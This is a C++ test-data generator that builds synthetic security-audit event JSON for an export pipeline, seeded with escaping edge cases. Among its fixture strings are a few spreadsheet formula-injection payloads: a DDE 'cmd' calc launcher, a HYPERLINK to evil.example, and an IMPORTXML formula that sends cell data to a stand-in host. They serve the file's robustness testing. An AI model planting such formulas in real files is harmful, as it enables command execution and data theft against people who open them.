// Builds the pool of event bodies: a tenant's users, the spec's event names with realistic
// weights, and properties shaped like each event type's, sprinkled with the text an exporter
// must carry through untouched (commas, quotes, escapes, raw and escaped non-ASCII, surrogate
// pairs, formula lookalikes, odd number forms, whitespace inside objects, a long tail of
// multi-KB properties).
#include "event_pool.hpp"

#include "deterministic_hash.hpp"

#include <algorithm>
#include <array>
#include <cassert>
#include <cstdio>
#include <limits>

namespace secexport::event_source {
namespace {

using namespace std::string_view_literals;

enum class category {
  sign_in, failed_login, two_factor, account_admin, elevated, content, data_export,
  credential, permission, settings, users
};

struct event_kind {
  std::string_view name;
  unsigned weight;             // relative frequency
  category area;
  unsigned other_account_pct;  // share of events naming another account
};

// Every event name of the spec, in its order. API-key traffic and sign-ins dominate.
constexpr std::array<event_kind, 49> event_kinds{{
    {"Signed In", 280, category::sign_in, 0},
    {"Failed Login", 110, category::failed_login, 0},
    {"Two-Factor Auth Setup Completed", 10, category::two_factor, 0},
    {"Two-Factor Auth Reset Completed", 5, category::two_factor, 0},
    {"Cleared Developer 2FA", 4, category::two_factor, 100},
    {"Added Additional Developer", 6, category::account_admin, 100},
    {"Added Account", 3, category::account_admin, 100},
    {"Developer Suspended", 3, category::account_admin, 100},
    {"Developer Unsuspended", 2, category::account_admin, 100},
    {"Developer Updated", 12, category::account_admin, 50},
    {"Removed Developer", 4, category::account_admin, 100},
    {"Removed Account", 2, category::account_admin, 100},
    {"User Updated", 15, category::account_admin, 0},
    {"Developer Account Updated", 6, category::account_admin, 0},
    {"Started Elevated Access Flow", 20, category::elevated, 0},
    {"Completed Elevated Access Flow", 18, category::elevated, 0},
    {"Failed 2FA Verification For Elevated Access", 6, category::elevated, 0},
    {"Enabled Elevated Access Enforcement", 2, category::settings, 0},
    {"Disabled Elevated Access Enforcement", 2, category::settings, 0},
    {"Added Campaign", 12, category::content, 0},
    {"Edited Campaign", 25, category::content, 0},
    {"Added Canvas", 10, category::content, 0},
    {"Edited Canvas", 22, category::content, 0},
    {"Added Segment", 10, category::content, 0},
    {"Edited Segment", 20, category::content, 0},
    {"Exported data to CSV", 15, category::data_export, 0},
    {"Exported Segment via API", 40, category::data_export, 0},
    {"Added Email Template", 6, category::content, 0},
    {"Updated Email Template", 10, category::content, 0},
    {"Added REST API key", 80, category::credential, 0},
    {"Removed REST API key", 60, category::credential, 0},
    {"Added Basic Auth credential", 5, category::credential, 0},
    {"Updated Basic Auth credential", 4, category::credential, 0},
    {"Removed Basic Auth credential", 3, category::credential, 0},
    {"Updated Push Credential", 6, category::credential, 0},
    {"Removed Push Credential", 3, category::credential, 0},
    {"Updated Account Permission", 8, category::permission, 70},
    {"Added Team", 3, category::permission, 0},
    {"Edited Team", 5, category::permission, 0},
    {"Created Custom Role", 3, category::permission, 0},
    {"Updated Custom Role", 4, category::permission, 0},
    {"Deleted Custom Role", 2, category::permission, 0},
    {"Company Settings Changed", 8, category::settings, 0},
    {"Updated Company Security Settings", 3, category::settings, 0},
    {"Updated Security Event Cloud Export", 2, category::settings, 0},
    {"Users Deleted", 6, category::users, 0},
    {"Users Viewed", 35, category::users, 0},
    {"User Import Started", 8, category::users, 0},
    {"User Deleted", 10, category::users, 0},
}};

constexpr std::array<std::string_view, event_kinds.size()> event_name_list = [] {
  std::array<std::string_view, event_kinds.size()> names{};
  for (std::size_t i = 0; i < names.size(); ++i) names[i] = event_kinds[i].name;
  return names;
}();

// Free text as it appears inside a JSON string, already escaped. Between them: commas,
// quotes, \n \r \t, backslashes, raw UTF-8 (é ß 日本語 emoji, U+2028), \u escapes including a
// surrogate pair, the rarer escapes \/ \b \f, and formula lookalikes.
constexpr std::string_view tricky_texts[] = {
    R"(Quarterly access review, EMEA)",
    R"(She said \"ship it\" and left)",
    R"(line one\nline two\nline three)",
    R"(tab\tseparated\tvalues)",
    R"(C:\\Users\\admin\\exports\\q3.csv)",
    "Caf\xc3\xa9 Stra\xc3\x9f" "e \xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e \xf0\x9f\x98\x80",
    R"(Caf\u00e9 Stra\u00dfe \u65e5\u672c\u8a9e \ud83d\ude00)",
    R"(=HYPERLINK(\"https://evil.example/x\",\"click here\"))",
    R"(+1 (555) 0100)",
    R"(windows\r\nline endings\r\n)",
    "mixed: \\\"quoted, comma\\\"\\nnew line\\tand tab \\\\ backslash \xc3\xa9 \xc3\x9f \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80",
    "emoji \xf0\x9f\x8e\x89\xf0\x9f\x94\x90 and \\u2603 snowman",
    R"(solidus \/ backspace \b formfeed \f)",
    R"(  leading and trailing spaces  )",
    R"()",
    R"(null)",
    "\\u00e9t\\u00e9 escaped, \xc3\xa9t\xc3\xa9 raw",
    "line separator [\xe2\x80\xa8] paragraph separator [\xe2\x80\xa9]",
    R"(-2+3 looks like a formula)",
    R"(@SUM(A1:A9))",
    R"(semi;colon|pipe'apostrophe`backtick)",
    R"(\"\",\"\" empty quoted fields \"\")",
};

constexpr std::string_view formula_texts[] = {
    R"(=1+2)", R"(=cmd|' /C calc'!A0)", R"(+SUM(1,2))", R"(-1+1)", R"(@A1)",
    R"(=IMPORTXML(CONCAT(\"https://x.example/?\",A1),\"//a\"))",
};

constexpr std::string_view first_names[] = {
    "alex", "sam", "maria", "li", "fatima", "john", "priya", "chen", "olga", "noah", "emma",
    "lucas", "mia", "omar", "sofia", "yuki", "david", "sara", "ivan", "nina", "kofi", "ana",
    "tom", "lena", "raj", "eva", "jonas", "hana", "pedro", "zoe", "amir", "grace"};
constexpr std::string_view non_ascii_first_names[] = {
    "jos\xc3\xa9", "zo\xc3\xab", "bj\xc3\xb6rn", "s\xc3\xb8ren", "fran\xc3\xa7ois",
    "j\xc3\xbcrgen", "\xc5\x82ukasz", "\xc3\xa7" "a\xc4\x9f" "la", "\xe5\xb1\xb1\xe7\x94\xb0",
    "\xe3\x81\x9f\xe3\x81\x8b\xe3\x81\x97"};
constexpr std::string_view last_names[] = {
    "smith", "garcia", "nguyen", "kim", "mueller", "rossi", "dubois", "silva", "kowalski",
    "tanaka", "okafor", "johansson", "patel", "cohen", "ivanova", "murphy", "haddad", "lopez",
    "schmidt", "yamamoto", "wong", "brown", "jensen", "fischer"};
constexpr std::string_view domains[] = {
    "example.com", "example.org", "corp.example", "mail.example.net", "example.co.uk",
    "eu.example.com", "xn--bcher-kva.example"};
constexpr std::string_view email_tags[] = {"security", "audit", "eu", "2fa", "ops", "test"};

constexpr std::string_view user_agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "internal-agent/1.0 (\"quoted\", comma; build=7)",
};

struct location {
  std::string_view country;
  std::string_view city;
};
constexpr location locations[] = {
    {"DE", "M\xc3\xbcnchen"}, {"US", "New York"}, {"BR", "S\xc3\xa3o Paulo"},
    {"JP", "\xe6\x9d\xb1\xe4\xba\xac"}, {"FR", "Paris"}, {"KR", "\xec\x84\x9c\xec\x9a\xb8"},
    {"IN", "Bengaluru"}, {"GB", "London"}, {"ES", "A Coru\xc3\xb1" "a"},
    {"TR", "\xc4\xb0stanbul"}, {"CH", "Z\xc3\xbcrich"}, {"US", "San Francisco"}};

constexpr std::string_view object_names[] = {
    "Spring Sale \xe2\x80\x94 20% off", "Black Friday, EU", R"(Onboarding \"Day 1\")",
    "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\xe3\x82\xad\xe3\x83\xa3\xe3\x83\xb3\xe3\x83\x9a\xe3\x83\xbc\xe3\x83\xb3",
    "Win-back \xf0\x9f\x98\x80", R"(=SUM(A1:A3))", "Newsletter #42", "Churn risk > 0.8",
    R"(VIP \\ loyalty tier)", "Re-engagement\\t(tabbed)", "Weekly digest", "Cart abandonment",
    "Push: \\u00a1Hola!", "Price alert", "Welcome series (v3)"};

constexpr std::string_view roles[] = {"admin", "developer", "marketer", "viewer", "billing",
                                      "security_admin", "support"};
constexpr std::string_view permissions[] = {
    "users.track", "users.export.ids", "users.delete", "campaigns.trigger.send",
    "canvas.trigger.send", "segments.list", "templates.email.create", "messages.send",
    "subscription.status.set", "purchases.product_list", "events.list", "kpi.dau.data_series"};
constexpr std::string_view setting_names[] = {
    "session_timeout_minutes", "password_min_length", "ip_allowlist_enabled",
    "sso_enforced", "data_retention_days", "two_factor_required"};

// --- JSON text ----------------------------------------------------------------------------

/// Appends a JSON string's contents for UTF-8 `raw`; with `escape_unicode`, every non-ASCII
/// code point as \uXXXX (a surrogate pair above U+FFFF), the way some servers write them.
void append_escaped(std::string& out, std::string_view raw, bool escape_unicode) {
  static constexpr char hex[] = "0123456789abcdef";
  auto put_u = [&](unsigned cp) {
    out += "\\u";
    for (int shift = 12; shift >= 0; shift -= 4) out.push_back(hex[(cp >> shift) & 15]);
  };
  for (std::size_t i = 0; i < raw.size(); ++i) {
    auto c = static_cast<unsigned char>(raw[i]);
    if (c == '"') out += "\\\"";
    else if (c == '\\') out += "\\\\";
    else if (c == '\n') out += "\\n";
    else if (c == '\r') out += "\\r";
    else if (c == '\t') out += "\\t";
    else if (c < 0x20) put_u(c);
    else if (c < 0x80 || !escape_unicode) out.push_back(static_cast<char>(c));
    else {
      // Decode one UTF-8 sequence (the tables above hold valid UTF-8 only).
      std::size_t len = c >= 0xf0 ? 4 : c >= 0xe0 ? 3 : 2;
      unsigned cp = c & (len == 4 ? 0x07u : len == 3 ? 0x0fu : 0x1fu);
      for (std::size_t k = 1; k < len; ++k) cp = (cp << 6) | (static_cast<unsigned char>(raw[i + k]) & 0x3fu);
      i += len - 1;
      if (cp >= 0x10000) {
        cp -= 0x10000;
        put_u(0xd800 + (cp >> 10));
        put_u(0xdc00 + (cp & 0x3ff));
      } else {
        put_u(cp);
      }
    }
  }
}

enum class json_style { compact, spaced, loose };

// Writes JSON with separators chosen by the style, so a few events carry insignificant
// whitespace (spaces and tabs only: an event always stays on one line).
class json_writer {
public:
  json_writer(std::string& out, json_style style) : out_(out), style_(style) {}

  json_writer& open_object() { return open('{'); }
  json_writer& close_object() { return close('}'); }
  json_writer& open_array() { return open('['); }
  json_writer& close_array() { return close(']'); }

  json_writer& key(std::string_view k) {
    separate();
    out_.push_back('"');
    out_ += k;
    out_ += style_ == json_style::compact ? "\":"sv : style_ == json_style::spaced ? "\": "sv : "\" : "sv;
    after_key_ = true;
    return *this;
  }
  /// A string value from raw UTF-8.
  json_writer& string(std::string_view raw, bool escape_unicode = false) {
    separate();
    out_.push_back('"');
    append_escaped(out_, raw, escape_unicode);
    out_.push_back('"');
    return *this;
  }
  /// A string value whose contents are already JSON-escaped.
  json_writer& escaped(std::string_view json_text) {
    separate();
    out_.push_back('"');
    out_ += json_text;
    out_.push_back('"');
    return *this;
  }
  /// A number, true, false or null, written as given.
  json_writer& literal(std::string_view json_literal) {
    separate();
    out_ += json_literal;
    return *this;
  }
  json_writer& number(std::int64_t v) { return literal(std::to_string(v)); }
  json_writer& boolean(bool v) { return literal(v ? "true"sv : "false"sv); }

  /// Whether the object or array opened last has no members yet.
  [[nodiscard]] bool empty() const { return first_.back(); }

private:
  void separate() {
    if (after_key_) {
      after_key_ = false;
      return;
    }
    if (first_.empty()) return;
    if (!first_.back())
      out_ += style_ == json_style::compact ? ","sv : style_ == json_style::spaced ? ", "sv : " ,  "sv;
    first_.back() = false;
  }
  json_writer& open(char c) {
    separate();
    out_.push_back(c);
    if (style_ == json_style::loose) out_.push_back(' ');
    first_.push_back(true);
    return *this;
  }
  json_writer& close(char c) {
    if (style_ == json_style::loose) out_.push_back('\t');
    out_.push_back(c);
    first_.pop_back();
    return *this;
  }

  std::string& out_;
  json_style style_;
  std::vector<bool> first_;
  bool after_key_ = false;
};

// --- the tenant's people ------------------------------------------------------------------

struct user {
  std::string developer_id;
  std::string email_then; // as it was when the events happened
  std::string email_now;  // empty: the user was deleted (current_email null)
};

std::string hex_id(sequence_rng& rng, std::size_t digits) {
  static constexpr char hex[] = "0123456789abcdef";
  std::string s;
  s.reserve(digits);
  for (std::size_t i = 0; i < digits; ++i) s.push_back(hex[rng.below(16)]);
  return s;
}

std::string make_email(sequence_rng& rng, std::size_t user_index) {
  if (user_index == 3) return R"("pat, o'brien"@example.net)"; // quoted local part: , " '
  std::string first(rng.pick(first_names)), last(rng.pick(last_names));
  std::string domain(rng.pick(domains));
  auto form = rng.below(100);
  if (form < 4) first = rng.pick(non_ascii_first_names);
  std::string email;
  if (form < 74) email = first + "." + last;
  else if (form < 84) email = first + "." + last + "+" + std::string(rng.pick(email_tags));
  else if (form < 92) email = first.substr(0, 1) + last;
  else if (form < 96) email = first + "." + last + std::to_string(1960 + rng.below(45));
  else {
    first[0] = static_cast<char>(first[0] - 'a' + 'A');
    last[0] = static_cast<char>(last[0] - 'a' + 'A');
    email = first + "." + last;
    domain = "Example.COM";
  }
  return email + "@" + domain;
}

std::vector<user> make_users(std::uint64_t key) {
  sequence_rng rng(mix(key, 0x75736572)); // "user"
  std::vector<user> users(256);
  for (std::size_t i = 0; i < users.size(); ++i) {
    auto& u = users[i];
    u.developer_id = hex_id(rng, 24);
    u.email_then = make_email(rng, i);
    if (i % 20 == 7) continue; // deleted: current_email null (about 5% of events)
    // A few users changed their address since: current_email differs.
    u.email_now = i % 17 == 5 ? "changed-" + std::to_string(i) + "@" + std::string(rng.pick(domains))
                              : u.email_then;
  }
  return users;
}

// --- one body -----------------------------------------------------------------------------

class body_builder {
public:
  body_builder(std::string& out, sequence_rng& rng, const std::vector<user>& users)
      : out_(out), rng_(rng), users_(users) {}

  event_body build(std::size_t pool_index) {
    event_body b;
    const auto base = out_.size();
    b.offset = static_cast<std::uint32_t>(base);
    const auto& kind = pool_index < event_kinds.size() ? event_kinds[pool_index] : weighted_kind();

    // Mildly skewed: low-numbered users are the busy ones.
    const auto& who = users_[rng_.below(rng_.below(users_.size()) + 1)];
    const bool escape_unicode = rng_.chance(40); // for non-ASCII emails: \u form in ~40%

    out_ += R"("email_at_time_of_event":)";
    quoted(who.email_then, escape_unicode);
    out_ += R"(,"current_email":)";
    if (who.email_now.empty()) out_ += "null";
    else quoted(who.email_now, escape_unicode);
    out_ += R"(,"developer_id":)";
    quoted(who.developer_id, false);
    out_ += ',';
    b.event_name_begin = static_cast<std::uint32_t>(out_.size() - base);
    out_ += R"("event_name":)";
    quoted(kind.name, false);
    out_ += ',';
    b.event_name_end = static_cast<std::uint32_t>(out_.size() - base);
    out_ += R"("other_account":)";
    if (rng_.below(100) < kind.other_account_pct) quoted(other_account(who), escape_unicode);
    else out_ += "null";
    out_ += R"(,"properties":)";

    auto style_pick = rng_.below(100);
    auto style = style_pick < 92 ? json_style::compact : style_pick < 97 ? json_style::spaced : json_style::loose;
    json_writer w(out_, style);
    w.open_object();
    b.properties_inside = static_cast<std::uint32_t>(out_.size() - base - (style == json_style::loose ? 1 : 0));
    if (!rng_.chance(1)) properties(w, kind); // else `{}`: an event without properties
    b.properties_empty = w.empty();
    w.close_object();
    out_ += '}';
    b.length = static_cast<std::uint32_t>(out_.size() - base);
    return b;
  }

private:
  const event_kind& weighted_kind() {
    static constexpr unsigned total = [] {
      unsigned t = 0;
      for (const auto& k : event_kinds) t += k.weight;
      return t;
    }();
    auto r = static_cast<unsigned>(rng_.below(total));
    for (const auto& k : event_kinds) {
      if (r < k.weight) return k;
      r -= k.weight;
    }
    return event_kinds[0];
  }

  void quoted(std::string_view raw, bool escape_unicode) {
    out_.push_back('"');
    append_escaped(out_, raw, escape_unicode);
    out_.push_back('"');
  }

  std::string other_account(const user& who) {
    if (rng_.chance(15)) return "new.hire" + std::to_string(rng_.below(1000)) + "+onboarding@example.com";
    for (;;) {
      const auto& other = users_[rng_.below(users_.size())];
      if (&other != &who) return other.email_then;
    }
  }

  std::string ip() {
    if (rng_.chance(12)) {
      char buf[40];
      std::snprintf(buf, sizeof buf, "2001:db8::%x:%x", unsigned(rng_.below(0x10000)), unsigned(rng_.below(0x10000)));
      return buf;
    }
    static constexpr std::string_view nets[] = {"203.0.113.", "198.51.100.", "192.0.2."};
    return std::string(rng_.pick(nets)) + std::to_string(1 + rng_.below(254));
  }

  std::string timestamp_text() {
    char buf[40];
    std::snprintf(buf, sizeof buf, "2026-%02u-%02uT%02u:%02u:%02uZ", 1 + unsigned(rng_.below(12)),
                  1 + unsigned(rng_.below(28)), unsigned(rng_.below(24)), unsigned(rng_.below(60)),
                  unsigned(rng_.below(60)));
    return buf;
  }

  void change_list(json_writer& w) {
    w.key("changes").open_array();
    auto n = 1 + rng_.below(3);
    for (std::uint64_t i = 0; i < n; ++i) {
      w.open_object().key("field").string(rng_.chance(50) ? "name" : rng_.chance(50) ? "schedule" : "audience");
      w.key("from").escaped(rng_.pick(object_names));
      w.key("to").escaped(rng_.chance(20) ? rng_.pick(tricky_texts) : rng_.pick(object_names));
      w.close_object();
    }
    w.close_array();
  }

  void odd_numbers(json_writer& w) {
    w.key("metrics").open_object();
    w.key("ratio").literal("1e-7").key("threshold").literal("1.5E+3");
    w.key("big_id").literal("9007199254740993").key("negative_zero").literal("-0.0");
    w.key("score").literal("-12.50").key("count").number(0).key("nothing").literal("null");
    w.key("nested").open_array().open_array().close_array().open_object().close_object();
    w.literal("true").close_array();
    w.close_object();
  }

  void long_tail(json_writer& w) {
    if (rng_.chance(50)) {
      w.key("audit_trail").open_array();
      auto n = 15 + rng_.below(60);
      for (std::uint64_t i = 0; i < n; ++i) {
        w.open_object().key("at").string(timestamp_text());
        w.key("actor").string(users_[rng_.below(users_.size())].email_then);
        w.key("action").string(rng_.pick(permissions));
        w.key("detail").escaped(rng_.pick(tricky_texts));
        w.close_object();
      }
      w.close_array();
    } else {
      std::string text;
      auto target = 2000 + rng_.below(8000);
      while (text.size() < target) {
        text += rng_.pick(tricky_texts);
        text += R"(\n)";
      }
      w.key("raw_diff").escaped(text);
    }
  }

  void properties(json_writer& w, const event_kind& kind) {
    switch (kind.area) {
    case category::sign_in: {
      w.key("ip").string(ip()).key("user_agent").string(rng_.pick(user_agents));
      static constexpr std::string_view methods[] = {"password", "saml_sso", "google_oauth", "api"};
      w.key("auth_method").string(rng_.pick(methods)).key("mfa").boolean(rng_.chance(70));
      w.key("session_id").string("s_" + hex_id(rng_, 16));
      const auto& at = rng_.pick(locations);
      w.key("location").open_object().key("country").string(at.country).key("city").string(at.city, rng_.chance(30));
      w.close_object();
      break;
    }
    case category::failed_login: {
      static constexpr std::string_view reasons[] = {"invalid_password", "unknown_user", "account_locked",
                                                     "mfa_code_invalid", "password_expired"};
      w.key("ip").string(ip()).key("user_agent").string(rng_.pick(user_agents));
      w.key("reason").string(rng_.pick(reasons)).key("attempt").number(static_cast<std::int64_t>(1 + rng_.below(9)));
      w.key("locked_out").boolean(rng_.chance(5));
      break;
    }
    case category::two_factor: {
      static constexpr std::string_view methods[] = {"totp", "sms", "webauthn"};
      w.key("method").string(rng_.pick(methods)).key("ip").string(ip());
      w.key("device").open_object().key("name").escaped(rng_.chance(50) ? R"(Pat's iPhone \"work\")" : "YubiKey 5C NFC");
      w.key("registered_at").string(timestamp_text()).close_object();
      break;
    }
    case category::account_admin: {
      w.key("target_developer_id").string(users_[rng_.below(users_.size())].developer_id);
      w.key("role").string(rng_.pick(roles));
      if (rng_.chance(60)) change_list(w);
      if (rng_.chance(30)) w.key("reason").escaped(rng_.pick(tricky_texts));
      if (rng_.chance(40)) w.key("expires_in_days").number(static_cast<std::int64_t>(rng_.below(30)));
      break;
    }
    case category::elevated: {
      w.key("flow_id").string("ea_" + hex_id(rng_, 12)).key("ip").string(ip());
      w.key("expires_in_seconds").number(900).key("requested_scope").open_array();
      w.string("security_settings").string(rng_.chance(50) ? "billing" : "api_keys").close_array();
      w.key("verification").string(rng_.chance(80) ? "totp" : "webauthn");
      break;
    }
    case category::content: {
      static constexpr std::string_view types[] = {"campaign", "canvas", "segment", "email_template"};
      w.key("object").open_object().key("type").string(rng_.pick(types)).key("id").string(hex_id(rng_, 24));
      w.key("name").escaped(rng_.pick(object_names)).close_object();
      if (rng_.chance(70)) change_list(w);
      w.key("tags").open_array();
      for (auto n = rng_.below(4); n > 0; --n) w.string(rng_.chance(50) ? "q4" : "emea");
      w.close_array().key("draft").boolean(rng_.chance(30)).key("version").number(static_cast<std::int64_t>(1 + rng_.below(40)));
      break;
    }
    case category::data_export: {
      if (kind.name == "Exported data to CSV") {
        w.key("file_name").escaped(rng_.chance(50) ? "users, 2026-11-22.csv" : R"(segment \"VIP\" export.csv)");
        w.key("rows").number(static_cast<std::int64_t>(rng_.below(5'000'000)));
        w.key("columns").open_array().string("external_id").string("email").string("first_name").close_array();
        w.key("filters").open_object().key("segment_id").string(hex_id(rng_, 24));
        w.key("created_after").string(timestamp_text()).close_object();
        w.key("compressed").boolean(rng_.chance(50));
      } else {
        w.key("api_key_id").string(hex_id(rng_, 32)).key("segment_id").string(hex_id(rng_, 24));
        w.key("endpoint").string("/users/export/segment").key("ip").string(ip());
        w.key("rows").number(static_cast<std::int64_t>(rng_.below(2'000'000)));
        w.key("duration_ms").literal(std::to_string(rng_.below(90000)) + "." + std::to_string(rng_.below(100)));
      }
      break;
    }
    case category::credential: {
      if (kind.name.find("REST") != std::string_view::npos) {
        w.key("api_key_id").string(hex_id(rng_, 32));
        w.key("key_name").escaped(rng_.chance(25) ? rng_.pick(tricky_texts) : rng_.pick(object_names));
        w.key("permissions").open_array();
        for (auto n = 1 + rng_.below(4); n > 0; --n) w.string(rng_.pick(permissions));
        w.close_array();
        w.key("allowed_ips").open_array();
        if (rng_.chance(50)) w.string("203.0.113.0/24");
        w.close_array().key("expires_at").literal(rng_.chance(70) ? "null" : "\"2027-06-30T00:00:00Z\"");
      } else if (kind.name.find("Basic") != std::string_view::npos) {
        w.key("credential_id").string(hex_id(rng_, 16)).key("username").string("sdk-" + hex_id(rng_, 6));
        w.key("domains").open_array().string("*.example.com").close_array();
      } else {
        static constexpr std::string_view platforms[] = {"ios", "android", "web", "huawei"};
        w.key("app_id").string(hex_id(rng_, 24)).key("platform").string(rng_.pick(platforms));
        w.key("environment").string(rng_.chance(80) ? "production" : "development");
        w.key("certificate_expires_at").string(timestamp_text());
      }
      break;
    }
    case category::permission: {
      w.key("role").open_object().key("id").string(hex_id(rng_, 24)).key("name").string(rng_.pick(roles)).close_object();
      w.key("permissions").open_object().key("added").open_array();
      for (auto n = rng_.below(4); n > 0; --n) w.string(rng_.pick(permissions));
      w.close_array().key("removed").open_array();
      for (auto n = rng_.below(3); n > 0; --n) w.string(rng_.pick(permissions));
      w.close_array().close_object();
      if (rng_.chance(50))
        w.key("team").open_object().key("id").string(hex_id(rng_, 24)).key("name").escaped(R"(EMEA, \"Growth\" team)").close_object();
      break;
    }
    case category::settings: {
      if (kind.name == "Updated Security Event Cloud Export") {
        w.key("provider").string("amazon_s3").key("bucket").string("acme-security-exports");
        w.key("auth_method").string(rng_.chance(50) ? "role_arn" : "access_key");
        w.key("role_arn").string("arn:aws:iam::123456789012:role/secexport").key("prefix").string("security-events/");
      } else {
        w.key("setting").string(rng_.pick(setting_names));
        w.key("old_value").number(static_cast<std::int64_t>(rng_.below(120)));
        w.key("new_value").number(static_cast<std::int64_t>(rng_.below(120)));
      }
      if (rng_.chance(40)) odd_numbers(w);
      break;
    }
    case category::users: {
      if (kind.name == "Users Deleted") {
        auto n = 1 + rng_.below(12);
        w.key("count").number(static_cast<std::int64_t>(n)).key("external_ids").open_array();
        for (; n > 0; --n) w.string("u-" + hex_id(rng_, 10));
        w.close_array().key("requested_via").string(rng_.chance(50) ? "api" : "dashboard");
      } else if (kind.name == "Users Viewed") {
        w.key("external_id").string("u-" + hex_id(rng_, 10)).key("tab").string("engagement").key("ip").string(ip());
      } else if (kind.name == "User Import Started") {
        w.key("import_id").string(hex_id(rng_, 24));
        w.key("file_name").string("Import \xe2\x80\x93 Q4 (final), v2.csv", rng_.chance(50));
        w.key("rows").number(static_cast<std::int64_t>(rng_.below(1'000'000))).key("source").string("csv");
      } else {
        w.key("external_id").string("u-" + hex_id(rng_, 10)).key("user_id").string(hex_id(rng_, 24));
        if (rng_.chance(50)) w.key("reason").escaped(rng_.pick(tricky_texts));
      }
      break;
    }
    }
    if (rng_.chance(15)) w.key("note").escaped(rng_.pick(tricky_texts));
    if (rng_.chance(2)) w.key("comment").escaped(rng_.pick(formula_texts));
    if (kind.area != category::settings && rng_.chance(2)) odd_numbers(w);
    if (rng_.chance(1)) long_tail(w);
  }

  std::string& out_;
  sequence_rng& rng_;
  const std::vector<user>& users_;
};

} // namespace

std::span<const std::string_view> all_event_names() noexcept { return event_name_list; }

event_pool::event_pool(std::uint64_t key) {
  const auto users = make_users(key);
  sequence_rng rng(mix(key, 0x626f6479)); // "body"
  text_.reserve(size * 520);
  bodies_.reserve(size);
  for (std::size_t i = 0; i < size; ++i) {
    body_builder builder(text_, rng, users);
    auto b = builder.build(i);
    max_length_ = std::max<std::size_t>(max_length_, b.length);
    bodies_.push_back(b);
  }
  assert(text_.size() < std::numeric_limits<std::uint32_t>::max());
}

} // namespace secexport::event_source
